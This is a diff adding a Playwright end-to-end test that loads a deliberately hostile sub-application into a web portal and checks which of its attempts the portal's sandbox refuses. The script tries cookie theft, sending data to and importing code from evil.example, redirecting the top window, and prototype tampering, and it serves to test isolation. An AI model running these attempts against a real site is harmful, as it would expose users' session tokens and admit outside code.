@@ -1,0 +1,107 @@
+import type { Page } from 'playwright-core';
+import { picture, rowOf, rows, signIn, startJourney, visiting } from './journey';
+import type { Journey } from './journey';
+import { play } from './playedSubApp';
+
+const CAMPAIGNS = '/smartube-app/market-ui/campaigns';
+
+// What a hostile child tries, each told as text: `reached …` or why not.
+const ATTEMPTS = `
+  const tries = {
+    cookie: () => document.cookie,
+    storage: () => localStorage.length,
+    page: () => window.parent.document.title,
+    top: () => { window.top.location.href = 'https://evil.example/'; return 'left'; },
+    fetch: () => fetch('/api/authority/admin/getInfo').then((answer) => answer.status),
+    elsewhere: () => fetch('https://evil.example/?secret').then(() => 'sent'),
+    code: () => import('https://evil.example/more.js').then(() => 'loaded'),
+    eval: () => Function('return 1')(),
+    window: () => { const opened = window.open('about:blank'); if (!opened) throw new Error('none'); return 'opened'; },
+    otherApi: () => props.portal.call({ method: 'GET', path: '/api/authority/admin/user/list', arg: { pageNum: 1 } }),
+    otherApp: () => props.portal.call({ method: 'GET', path: '/api/subapp/millstone/device/list', arg: { pageNum: 1 } }),
+    ownApi: () => props.portal.call({ method: 'GET', path: '/api/subapp/market-ui/campaign/list', arg: { pageNum: 1 } }),
+    script: () => { props.portal.navigate('javascript:alert(1)'); props.portal.openPage('//evil.example'); return 'asked'; },
+  };
+  const told = {};
+  for (const [name, act] of Object.entries(tries)) {
+    try {
+      const value = await act();
+      told[name] = 'reached ' + (typeof value === 'object' ? 'data' : value);
+    } catch (problem) {
+      told[name] = 'refused';
+    }
+  }
+  Array.prototype.map = function () { return ['patched']; };
+  for (const rubbish of [null, 1, 'x', { kind: 'call' }, { kind: 'navigate', address: 'https://evil.example' }, { kind: 'answered', id: 1 }]) {
+    window.parent.postMessage(rubbish, '*');
+  }
+  props.domElement.innerHTML = '<h1>played</h1><pre></pre>';
+  props.domElement.querySelector('pre').textContent = JSON.stringify(told);
+`;
+
+let journey: Journey;
+beforeAll(async () => {
+  journey = await startJourney();
+});
+afterAll(async () => {
+  await journey.end();
+});
+
+const enter = async (page: Page, user: string, path: string) => {
+  await page.goto(`/login?redirect=${encodeURIComponent(path)}`);
+  await signIn(page, user, journey.portal.password);
+};
+const told = async (text: Promise<string>) => JSON.parse(await text) as Record<string, string>;
+
+it('[APP-06] a hostile child in the portal’s page: what it can reach is what docs/subapp.md says', () =>
+  visiting(journey, async (page, context) => {
+    // Those that would take the page away or open another one are tried in the frame alone.
+    const mount = ATTEMPTS.replace(/    (top|window): .*\n/g, '').replace('Array.prototype.map', 'props.own');
+    await play(context, 'market-ui', { mount });
+    await enter(page, 'acme-admin', CAMPAIGNS);
+    await page.getByRole('heading', { name: 'played' }).waitFor();
+    const reached = await told(page.locator('pre').innerText());
+    expect(reached['cookie']).toContain('Admin-Token=');
+    // It calls as the person, so it reads what they may read; nothing of it leaves for another site, and no code comes in.
+    expect(reached).toMatchObject({ elsewhere: 'refused', code: 'refused', eval: 'refused', ownApi: 'reached data' });
+    expect(page.url()).toContain(CAMPAIGNS);
+  }));
+
+it('[APP-06] one that runs apart reaches its own calls, and nothing else', () =>
+  visiting(journey, async (page, context) => {
+    const administrator = journey.page;
+    await administrator.goto('/login?redirect=%2Fsystem%2Fapp');
+    await signIn(administrator, 'admin', journey.portal.password);
+    await rows(administrator).first().waitFor();
+    await rowOf(administrator, 'market-ui').getByRole('button', { name: '编辑', exact: true }).click();
+    const form = administrator.locator('.ant-modal:visible');
+    await form.getByRole('switch', { name: '隔离运行' }).click();
+    await form.getByRole('button', { name: '确定', exact: true }).click();
+    await form.waitFor({ state: 'detached' });
+
+    await play(context, 'market-ui', { mount: ATTEMPTS });
+    await enter(page, 'acme-admin', CAMPAIGNS);
+    const frame = page.frameLocator('main iframe');
+    await frame.getByRole('heading', { name: 'played' }).waitFor();
+    expect(await told(frame.locator('pre').innerText())).toEqual({
+      cookie: 'refused',
+      storage: 'refused',
+      page: 'refused',
+      top: 'refused',
+      fetch: 'refused',
+      elsewhere: 'refused',
+      code: 'refused',
+      eval: 'refused',
+      window: 'refused',
+      otherApi: 'refused',
+      otherApp: 'refused',
+      ownApi: 'reached data',
+      script: 'reached asked',
+    });
+    // The portal goes on, with prototypes of its own.
+    expect(page.url()).toContain(CAMPAIGNS);
+    expect(await page.evaluate(() => [1].map((one) => one + 1))).toEqual([2]);
+    await picture(page, '143-apart');
+    await page.locator('aside').getByText('活动效果').click();
+    await frame.last().getByRole('heading', { name: 'played' }).waitFor();
+  }));
